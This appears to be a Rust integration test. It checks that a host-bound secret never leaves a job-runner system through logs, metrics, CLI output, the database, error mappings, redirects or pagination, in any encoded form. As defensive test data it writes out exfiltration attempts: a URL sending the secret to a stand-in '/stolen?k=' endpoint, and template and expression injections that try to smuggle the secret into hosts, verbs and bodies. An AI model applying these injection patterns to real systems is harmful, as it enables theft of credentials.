//! Somebody who may write processes, and third parties that mean harm, after one secret that is bound to its host: every way
//! in which a value can leave, times every form that it can take.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use harness::process::Running;
use harness::test_app::{TestApp, job};
use harness::third_party::{Reply, Seen, ThirdParty};
use serde_json::{Value, json};

use super::{doors, search};

/// Letters and digits, so that no escape hides it from the search.
const SECRET: &str = "Canary77XyVogel77xZ";

/// What can be made of the secret; the search knows all of them.
fn traces() -> Vec<String> {
    let forms = |text: &str| {
        let once = search::forms(text);
        let twice = once.iter().flat_map(|form| search::forms(form)).collect::<Vec<_>>();
        [once, twice].concat()
    };
    let reversed: String = SECRET.chars().rev().collect();
    // A half of it is found as well: a mask must not leave one.
    [SECRET, "Canary77Xy", "Vogel77xZ", &reversed].into_iter().flat_map(forms).map(|form| form.to_lowercase()).collect()
}

fn traces_in(text: &str) -> Vec<String> {
    let text = text.to_lowercase();
    traces().into_iter().filter(|trace| text.contains(trace)).collect()
}

/// Says back what it was sent, in every form.
fn home(seen: &Seen, evil: &str) -> Reply {
    let said = seen.header("x-key").to_owned();
    let percent: String = said.bytes().map(|byte| format!("%25{byte:02X}")).collect::<Vec<_>>().concat();
    let units: String = said.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect::<Vec<_>>().concat();
    let forms = json!({
        "said": said, "upper": said.to_uppercase(), "reversed": said.chars().rev().collect::<String>(),
        "base64": STANDARD.encode(STANDARD.encode(&said)), "percent": percent, "units": units,
        "hex": said.bytes().map(search::hex).collect::<String>(),
        "html": said.chars().map(|c| format!("&#x{:x};", u32::from(c))).collect::<Vec<_>>().concat(),
        "list": [said], "next": format!("{evil}/next"),
    });
    match seen.path.split(['/', '?']).nth(1).unwrap_or_default() {
        "fail" => Reply::status(500, &forms).with("x-said", &said),
        "away" => Reply::status(302, &json!({})).with("location", &format!("{evil}/redirected")),
        "poll" => Reply::status(202, &json!({})).with("location", &format!("{evil}/polled")),
        _ => Reply::json(&forms).with("x-said", &said),
    }
}

/// One resource a door.
fn resources(home: &ThirdParty) -> Value {
    let keyed = |path: &str, more: Value| {
        let mut resource = json!({"url": home.url(path), "method": "GET",
            "headers": [{"key": "X-Key", "value": "{{secret:BOUND}}", "required": true}]});
        resource.as_object_mut().expect("an object").extend(more.as_object().cloned().unwrap_or_default());
        resource
    };
    json!({
        "echo": keyed("/echo", json!({})),
        "fail": keyed("/fail", json!({"errorMapping": [{"when": "500", "code": "E", "message": "{{body.said}} {{body.upper}}"}]})),
        "judge": keyed("/echo", json!({"success": "body.said matches '/^Canary/'"})),
        "away": keyed("/away", json!({})),
        "poll": keyed("/poll", json!({"method": "POST", "poll": {"wait": 0}})),
        "pages": keyed("/echo", json!({"pagination": {"next": "next"}})),
        "free": {"url": home.url("/free"), "method": "GET"},
        "verb": {"url": home.url("/free"), "method": "{{p}}"},
        "host": {"url": "http://{{p}}/x", "method": "GET"},
        "file": {"url": home.url("/file"), "method": "POST", "body_type": "multipart", "body": "{\"doc\": {\"url\": \"{{{p}}}\"}}"},
        "text": {"url": home.url("/text"), "method": "POST", "body_type": "json", "body": "{\"a\": {{{p | json}}}}"},
    })
}

/// A job, how it ends, and whether its row is a body's.
fn jobs(evil: &str) -> Vec<(Value, &'static str)> {
    let mut jobs = Vec::new();
    let mut add = |resource: &str, rows: Value, mapping: Value, code: &'static str| {
        let mut job = job(&format!("a{}", jobs.len()), resource, &[], json!({"control": "Control31415"}));
        job["config"]["outboundConfig"] = rows;
        job["config"]["dataMapping"] = mapping;
        jobs.push((job, code));
    };
    let row =
        |kind: &str, value: &str, format: &str| json!([{"type": kind, "key": "p", "value": value, "format": format}]);
    for (source, format, code) in [
        ("", "dotNotation", ""),
        ("$headers", "dotNotation", ""),
        ("reverse(said)", "jmespath", ""),
        ("reverse(reversed)", "jmespath", ""),
        ("{{said | base64 | base64}}{{x-said | html64}}", "mustache", ""),
        ("uppercase(said) ~ lowercase(html)", "feel", ""),
        ("said + 1", "feel", "MAPPING"),
        ("{a: 1}[said]", "feel", "MAPPING"),
    ] {
        add("echo", json!([]), json!([{"key": "v", "value": source, "format": format}]), code);
    }
    let all = || json!([{"key": "v", "value": ""}]);
    add("fail", json!([]), all(), "HTTP_500");
    add("judge", json!([]), all(), "HTTP_200");
    for value in [
        "{a:1}['{{secret:BOUND | base64 | base64}}']",
        "'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa{{secret:BOUND}}",
        "{a:1}[uppercase('{{secret:BOUND}}')]",
        "'{{secret:BOUND}}' matches '/^C/' ? 1 : novar",
    ] {
        add("free", row("PARAM", value, "feel"), all(), "CONFIGURATION");
    }
    for value in [
        "{{secret:BOUND | base64 | base64}}",
        "{{#base64}}{{secret:BOUND}}{{/base64}}",
        "{{#secret:BOUND}}x{{/secret:BOUND}}",
    ] {
        add("free", row("PARAM", value, "mustache"), all(), "CONFIGURATION");
    }
    add("verb", row("PARAM", "{{secret:BOUND}}", "mustache"), all(), "CONFIGURATION");
    add("host", row("PARAM", "{{secret:BOUND}}", "mustache"), all(), "CONFIGURATION");
    add("host", row("PARAM", evil.trim_start_matches("http://"), "mustache"), all(), "");
    add("file", row("BODY", &format!("{evil}/stolen?k={{{{secret:BOUND}}}}"), "mustache"), all(), "CONFIGURATION");
    add("text", row("BODY", "{{secret:BOUND}}", "mustache"), all(), "CONFIGURATION");
    add("away", json!([]), all(), "HTTP_302");
    add("poll", json!([]), all(), "OUTCOME_UNKNOWN");
    add("pages", json!([]), all(), "DENIED");
    jobs
}

async fn places(app: &TestApp, worker: &Running, results: &[Value]) -> Vec<(String, String)> {
    let letters = app.dead_letters(1).await;
    let number = letters[0]["id"].to_string();
    let mut places = vec![
        ("results".to_owned(), json!(results).to_string()),
        ("the log".to_owned(), worker.output()),
        ("metrics".to_owned(), worker.metrics().await),
        ("dead show".to_owned(), app.cli(&["dead", "show", &number]).await),
        ("jobs list".to_owned(), app.cli(&["jobs", "list", "--limit", "200"]).await),
        ("the database".to_owned(), search::database(app).await),
        ("connectors test".to_owned(), app.cli_error(&["connectors", "test", "API", "fail"]).await.1),
    ];
    for result in results {
        let id = result["job"].as_str().unwrap_or_default();
        places.push((format!("jobs show {id}"), app.cli(&["jobs", "show", id]).await));
    }
    places
}

#[tokio::test]
async fn a_bound_secret_leaves_by_no_way_in_no_form() {
    let evil = ThirdParty::friendly().await;
    let (there, app) = (evil.url(""), TestApp::new());
    let elsewhere = there.clone();
    let home = ThirdParty::start(move |seen, _| home(seen, &elsewhere)).await;
    app.import_resources(resources(&home)).await;
    app.cli_with(&["secrets", "set", "BOUND", "--host", &home.url("")], SECRET).await;
    let worker = app.worker_with(&["--listen", "127.0.0.1:0"], &[("RUST_LOG", "trace")]).await;
    let (mut engine, jobs) = (app.engine().await, jobs(&there));
    let mut results = Vec::new();
    for (job, code) in &jobs {
        engine.publish(job).await;
        let result = engine.result().await.body;
        assert_eq!(result["error"]["code"].as_str().unwrap_or_default(), *code, "{job}: {result:#}");
        results.push(result);
    }
    let mut other = jobs[0].0.clone();
    other["data"] = json!({"another": true});
    engine.publish(&other).await;
    assert!(home.seen().iter().any(|seen| seen.header("x-key") == SECRET), "it was sent where it belongs");
    let (server, api) = app.serve_with(&["serve"], &[("RUST_LOG", "trace")]).await;
    let mut places = places(&app, &worker, &results).await;
    places.extend(doors::shown(&app, &api, &jobs.iter().map(|(job, _)| job).collect::<Vec<_>>()).await);
    places.push(("the server's log".to_owned(), server.output()));
    for (place, text) in places {
        let found = traces_in(&text);
        assert!(found.is_empty(), "{place}: {found:?}: {text}");
    }
    // By the job, by a trial, and over the API: a call that carries no secret.
    let stolen: Vec<String> = evil.seen().into_iter().map(|seen| seen.path).collect();
    assert!(stolen.len() == 3 && stolen.iter().all(|path| path.starts_with("/x?p=")), "sent there: {stolen:?}");
    // What was refused is refused before it is sent; what is mapped is mapped from the mask.
    assert!(json!(results).to_string().contains("********"));
}
